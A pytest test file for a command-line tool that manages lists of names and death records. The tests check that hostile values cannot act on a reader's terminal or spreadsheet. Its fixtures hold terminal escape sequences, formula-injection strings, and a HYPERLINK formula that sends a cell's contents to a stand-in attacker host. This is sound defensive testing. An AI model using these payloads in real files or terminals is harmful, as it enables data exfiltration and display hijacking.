"""Hostile list values cannot act on a reader's terminal or spreadsheet.

One small list holds, in names, places, ids and a source's name, a clear-screen sequence, a
window-title sequence, a bell, a carriage return, a C1 control and spreadsheet formulas. Every
command that shows them (import, sources, link, review, count, places unresolved, an error)
prints no control character; JSON keeps the values exactly; every CSV the tool writes (export
persons, the public release, report tables, count, rejects) starts no text cell with a formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from everyname.cli import commands  # noqa: F401  (registers the commands)
from everyname.cli.app import app
from everyname.core.csvout import TRIGGERS

pytestmark = pytest.mark.django_db
runner = CliRunner()

CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;owned\x07"
C1 = "\x9b31m"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
PLACE = f"حمص{TITLE}"
SOURCE_NAME = f"Local committee{CLEAR}"
HEADER = ["الرقم", "الاسم", "الجنس", "تاريخ الوفاة", "المحافظة"]
ROWS = [
    [FORMULA, f"محمد عبد الرحمن{CLEAR}الخالدي", f"ذكر{C1}", "2012-02-04", PLACE],
    ["+1+1", "@SUM(1+1)*cmd", "ذكر", "2012-02-05", f"-2+3{CLEAR}"],
    ["-3", f"أحمد خليل\r{C1}", "\x07ذكر\x1b[31m", "2012-02-06", "حماة"],
]
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\r")


def write_list(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    return path


def run(*args: object, input: str | None = None):  # type: ignore[no-untyped-def]
    return runner.invoke(app, [str(a) for a in args], input=input, terminal_width=200)


def assert_clean(result) -> None:  # type: ignore[no-untyped-def]
    for stream in (result.stdout, result.stderr):
        for char in FORBIDDEN:
            assert char not in stream, (char, stream)


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)


@pytest.fixture
def hostile(tmp_path, key_file):  # type: ignore[no-untyped-def]
    """The list under two sources (so linking has pairs to review), then linked."""
    for source, name, rows in (("lcc", SOURCE_NAME, ROWS), ("ngo", None, ROWS[::-1])):
        path = write_list(tmp_path / f"{source}.csv", rows)
        extra = ["--source-name", name] if name else []
        result = run("import", path, "--source", source, *extra)
        assert result.exit_code == 0, result.output
        assert_clean(result)
    linked = run("link")
    assert linked.exit_code == 0, linked.output
    assert_clean(linked)
    return tmp_path


def test_no_control_character_reaches_the_terminal(hostile):  # type: ignore[no-untyped-def]
    from everyname.store.models import Batch

    batch = Batch.objects.order_by("pk").first()  # ids differ between databases
    for args in (
        ["sources"],
        ["sources", "--batch", batch.pk],
        ["count", "--by", "governorate,sex", "--explain"],
        ["places", "unresolved"],
    ):
        result = run(*args)
        assert result.exit_code == 0, (args, result.output)
        assert_clean(result)
    reviewed = run("review", input="k\nq\n")
    assert reviewed.exit_code == 0, reviewed.output
    # the value is shown, only its control characters go
    assert "الخالدي" in reviewed.stdout and "محمد عبد الرحمن" in reviewed.stdout
    assert_clean(reviewed)


def test_json_keeps_the_values_exactly_and_escaped(hostile):  # type: ignore[no-untyped-def]
    result = run("places", "unresolved", "--format", "json")
    assert result.exit_code == 0, result.output
    assert_clean(result)
    assert f"-2+3{CLEAR}" in {row["spelling"] for row in json.loads(result.stdout)}
    counted = run("count", "--by", "governorate", "--format", "json", "--explain")
    assert counted.exit_code == 0, counted.output
    assert_clean(counted)


def test_an_error_message_holds_no_control_character(tmp_path, key_file):  # type: ignore[no-untyped-def]
    path = write_list(tmp_path / "strict.csv", ROWS)
    refused = run("import", path, "--source", "lcc", "--strict")
    assert refused.exit_code == 1
    assert "ذكر" in refused.output  # the unreadable value is named, without its controls
    assert_clean(refused)


def test_no_csv_the_tool_writes_starts_a_formula(hostile):  # type: ignore[no-untyped-def]
    out = hostile
    assert run("export", "persons", "--out", out / "persons.csv").exit_code == 0
    exported = csv_cells(out / "persons.csv")
    assert {FORMULA, "+1+1", "-3"} <= {row[2][1:] for row in exported[1:]}  # kept, quoted
    assert_no_formula(exported)

    published = run("export", "public", "--out", out / "public")
    assert published.exit_code == 0, published.output
    release_csvs = sorted((out / "public" / "v1").glob("*.csv"))
    assert {"persons.csv", "records.csv"} <= {p.name for p in release_csvs}
    for path in release_csvs:
        assert_no_formula(csv_cells(path))
    persons = csv_cells(out / "public" / "v1" / "persons.csv")
    assert any(cell == "'@SUM(1+1)*cmd" for row in persons for cell in row)
    # The next release reads this one back without the prefix: nothing changed.
    again = run("export", "public", "--out", out / "public")
    assert again.exit_code == 0, again.output
    changes = csv_cells(out / "public" / "v2" / "changes.csv")
    assert changes[1:] == []

    report = run("report", "--out", out / "r.html", "--tables", out / "tables", "--no-estimate")
    assert report.exit_code == 0, report.output
    tables = sorted((out / "tables").glob("*.csv"))
    assert tables
    for path in tables:
        assert_no_formula(csv_cells(path))

    counted = run("count", "--by", "governorate", "--format", "csv")
    assert counted.exit_code == 0, counted.output
    assert_clean(counted)
    assert_no_formula(list(csv.reader(io.StringIO(counted.stdout))))


def test_rejects_hold_no_formula_and_replace_nothing_unasked(tmp_path, key_file):  # type: ignore[no-untyped-def]
    broken = [*ROWS, ["=1+2", "نزار", "ذكر", "2012-02-07", "حمص", "@extra"]]
    path = write_list(tmp_path / "list.csv", broken)
    mine = tmp_path / "list.rejects.csv"
    mine.write_text("my own notes\n")
    before = path.read_bytes()

    refused = run("import", path, "--source", "lcc", "--skip-invalid")
    assert refused.exit_code == 1
    assert "already exists" in refused.output and "--overwrite-rejects" in refused.output
    assert mine.read_text() == "my own notes\n"
    assert run("sources").stdout.count("lcc") == 0  # nothing was imported

    into_input = run("import", path, "--source", "lcc", "--skip-invalid", "--rejects", path)
    assert into_input.exit_code == 1
    assert "input" in into_input.output
    into_input = run(
        "import", path, "--source", "lcc", "--skip-invalid", "--rejects", path,
        "--overwrite-rejects",
    )  # fmt: skip
    assert into_input.exit_code == 1
    assert path.read_bytes() == before

    done = run("import", path, "--source", "lcc", "--skip-invalid", "--overwrite-rejects")
    assert done.exit_code == 0, done.output
    rejected = csv_cells(mine)
    assert len(rejected) == 2
    assert_no_formula(rejected)
    assert rejected[1][1] == "'=1+2"
    assert oct(mine.stat().st_mode & 0o777) == oct(0o600)
